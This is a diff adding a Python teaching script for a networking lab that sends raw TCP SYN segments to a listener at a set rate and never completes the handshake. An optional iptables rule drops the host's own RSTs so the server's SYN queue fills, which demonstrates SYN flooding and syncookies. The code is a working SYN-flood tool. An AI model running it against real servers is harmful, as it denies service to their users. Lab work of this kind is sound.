@@ -1,0 +1,108 @@
+#!/usr/bin/env python3
+"""tcplab SYN sender: send TCP SYNs to a listener and never complete the handshake.
+
+For the SYN-queue and syncookie lessons. SYNs leave from this host's own address (never a spoofed or
+outside one), from --count different source ports at --rate per second. Each SYN-ACK the server sends
+back would make this host's kernel answer with RST (no socket owns those ports), which would free the
+server's SYN queue at once; --drop-rsts adds a firewall rule inside this host that drops those RSTs,
+and removes it at exit. Needs root (a raw socket) inside the host.
+
+Events: rst-rule, sent (every --report SYNs), summary.
+
+Example:  python3 guest/synflood.py 10.0.0.1:9000 --count 2000 --rate 2000 --drop-rsts
+"""
+import argparse
+import random
+import socket
+import struct
+import subprocess
+import sys
+import time
+
+import kernel
+from kernel import Events, Stop
+
+
+def checksum(data):
+    if len(data) % 2:
+        data += b"\0"
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+def syn_segment(src_ip, dst_ip, sport, dport, seq):
+    """A 24-byte TCP SYN (with an MSS option) whose checksum covers the IPv4 pseudo-header."""
+    options = struct.pack("!BBH", 2, 4, 1460)
+    offset_flags = ((5 + len(options) // 4) << 12) | 0x002
+    header = struct.pack("!HHIIHHHH", sport, dport, seq, 0, offset_flags, 64240, 0, 0) + options
+    pseudo = socket.inet_aton(src_ip) + socket.inet_aton(dst_ip) + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(header))
+    csum = checksum(pseudo + header)
+    return header[:16] + struct.pack("!H", csum) + header[18:]
+
+
+def local_address_towards(dst_ip):
+    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    probe.connect((dst_ip, 9))
+    return probe.getsockname()[0]
+
+
+RST_RULE = ["OUTPUT", "-p", "tcp", "--tcp-flags", "RST", "RST", "-d", "{dst}", "--dport", "{port}", "-j", "DROP"]
+
+
+def rst_rule(action, dst, port):
+    rule = [part.format(dst=dst, port=port) for part in RST_RULE]
+    subprocess.run(["iptables", action, *rule], check=True, capture_output=True, text=True)
+
+
+def main(argv=None):
+    p = argparse.ArgumentParser(prog="synflood.py", description=__doc__.split("\n\n")[0],
+                                epilog=__doc__.split("\n\n", 1)[1], formatter_class=argparse.RawDescriptionHelpFormatter)
+    p.add_argument("server", help="HOST:PORT of the listener")
+    p.add_argument("--count", type=int, default=1000, help="SYNs to send (one per source port)")
+    p.add_argument("--rate", type=float, default=1000.0, help="SYNs per second")
+    p.add_argument("--drop-rsts", action="store_true", help="drop this host's RSTs to the server while running")
+    p.add_argument("--report", type=int, default=500, help="an event every N SYNs")
+    p.add_argument("--hold", type=float, default=0.0, help="keep the RST rule SEC after the last SYN")
+    args = p.parse_args(argv)
+    ev = Events("synflood")
+    kernel.stop_on_signals()
+    dst, port = kernel.parse_hostport(args.server)
+    src = local_address_towards(dst)
+    sent, reason = 0, "done"
+    rule = False
+    try:
+        if args.drop_rsts:
+            rst_rule("-A", dst, port)
+            rule = True
+            ev.emit("rst-rule", action="added", dst=dst, port=port)
+        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
+        ports = random.sample(range(20000, 60000), args.count)
+        start = time.monotonic()
+        for i, sport in enumerate(ports):
+            due = start + i / args.rate
+            delay = due - time.monotonic()
+            if delay > 0:
+                time.sleep(delay)
+            raw.sendto(syn_segment(src, dst, sport, port, random.getrandbits(32)), (dst, 0))
+            sent += 1
+            if sent % args.report == 0:
+                ev.emit("sent", count=sent, elapsed_s=round(time.monotonic() - start, 3))
+        if args.hold:
+            time.sleep(args.hold)
+    except Stop as e:
+        reason = str(e)
+    except (OSError, subprocess.CalledProcessError) as e:
+        ev.emit("error", message=str(getattr(e, "stderr", "") or e))
+        reason = "error"
+    finally:
+        if rule:
+            rst_rule("-D", dst, port)
+            ev.emit("rst-rule", action="removed", dst=dst, port=port)
+    ev.emit("summary", reason=reason, sent=sent, source=src, target=f"{dst}:{port}")
+    return 0 if reason != "error" else 1
+
+
+if __name__ == "__main__":
+    sys.exit(main())
